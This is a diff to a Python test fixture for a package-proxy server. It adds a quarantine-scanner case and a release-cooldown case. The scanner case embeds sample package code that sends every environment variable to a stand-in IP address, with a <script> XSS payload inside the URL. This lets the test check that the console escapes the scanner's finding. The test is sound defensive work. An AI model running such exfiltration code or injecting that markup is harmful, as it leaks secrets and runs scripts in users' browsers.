@@ -1,6 +1,10 @@
 """A server with a console: an approver and an admin token, a webhook receiver, and releases.
 
 `evilpkg 1.0` is blocked by the scanner (quarantined); `goodpkg 1.0` and `goodpkg 2.0` are clean.
+`freshpkg 2.0` was uploaded just now, so the cooldown hides it (1.0 is old and served).
+`xsspkg 1.0` is blocked by the scanner, and the line its finding quotes carries markup
+(`</pre><script>…`): the console must show it as text. The sample is inert text written
+here; nothing runs it.
 """
 
 from __future__ import annotations
@@ -23,6 +27,12 @@ from tests.samples.malicious import SAMPLES
 from tests.server.serverproc import ServerProcess, clean_env
 
 OLD = datetime.now(UTC) - timedelta(days=60)
+HOSTILE = "<script>alert(1)</script>"
+XSS_INIT = (
+    "import os as _os, json as _json, urllib.request as _ur\n"
+    f'_ur.urlopen("http://203.0.113.9:8000/</pre>{HOSTILE}", '
+    "_json.dumps(dict(_os.environ)).encode(), timeout=2)\n"
+)
 
 
 @dataclass
@@ -65,9 +75,11 @@ class Setup:
     tokens: dict[str, str]
     data: Path
 
-    def get(self, path: str, role: str = "reader", **kwargs: Any) -> httpx.Response:
-        headers = {"Authorization": f"Bearer {self.tokens[role]}"}
-        return httpx.get(self.server.url + path, headers=headers, timeout=30, **kwargs)
+    def get(
+        self, path: str, role: str = "reader", headers: dict[str, str] | None = None, **kwargs: Any
+    ) -> httpx.Response:
+        sent = {"Authorization": f"Bearer {self.tokens[role]}", **(headers or {})}
+        return httpx.get(self.server.url + path, headers=sent, timeout=30, **kwargs)
 
     def post(self, path: str, role: str, body: Any) -> httpx.Response:
         headers = {"Authorization": f"Bearer {self.tokens[role]}"}
@@ -104,6 +116,10 @@ def console_setup(tmp: Path) -> Iterator[Setup]:
     upstream.add_release("goodpkg", "2.0", uploaded=OLD, sdist=False)
     upstream.add_release("unfetchedpkg", "1.0", uploaded=OLD, sdist=False)
     upstream.add_release("unfetchedpkg", "2.0", uploaded=OLD, sdist=False)
+    upstream.add_release("freshpkg", "1.0", uploaded=OLD, sdist=False)
+    upstream.add_release("freshpkg", "2.0", uploaded=datetime.now(UTC), sdist=False)
+    files = {"xsspkg/__init__.py": XSS_INIT}
+    upstream.add_release("xsspkg", "1.0", uploaded=OLD, files=files, sdist=False)
     upstream.start()
     receiver = Receiver()
     hook = receiver.start()
